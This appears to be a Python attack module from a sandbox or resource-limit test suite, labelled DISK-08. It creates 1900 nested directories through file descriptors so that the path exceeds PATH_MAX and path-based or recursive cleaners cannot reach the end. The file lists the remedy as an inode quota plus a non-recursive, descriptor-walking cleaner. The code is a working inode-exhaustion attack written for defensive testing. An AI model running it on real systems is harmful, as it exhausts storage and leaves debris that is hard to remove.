# SPDX-License-Identifier: MIT
"""deep-chain.py - a disk bomb as one long corridor.

Goal: more inodes than the budget, where the cleaner cannot follow.
Means: 1900 folders, each inside the last, made and entered through descriptors. The path to the
end is ten times PATH_MAX, so no cleaner that works with paths gets there (ENAMETOOLONG), and none
that calls itself for each level survives the trip (Python before 3.13 gives up at 1000).
"""

import os
import tempfile

from attack import attempting, denied, hold

LEVELS = 1900


def run(brief):
    name = f"{brief.name}-twenty-letters"
    attempting()
    try:
        here = os.open(tempfile.gettempdir(), os.O_RDONLY)
        for _ in range(LEVELS):
            os.mkdir(name, 0o700, dir_fd=here)
            below = os.open(name, os.O_RDONLY | os.O_DIRECTORY, dir_fd=here)
            os.close(here)
            here = below
    except OSError as why:
        return denied("mkdir", why)
    return hold()


ATTACK = {
    "effect": "more inodes than the budget, out of a cleaner's reach",
    "means": "1900 folders, each inside the last",
    "oracle": "usage:inodes",
    "id": "DISK-08",
    "attack_id": "T1499.001, CWE-400",
    "remedy": "a quota on inodes; a cleaner that walks by descriptors, without recursion",
    "run": run,
}
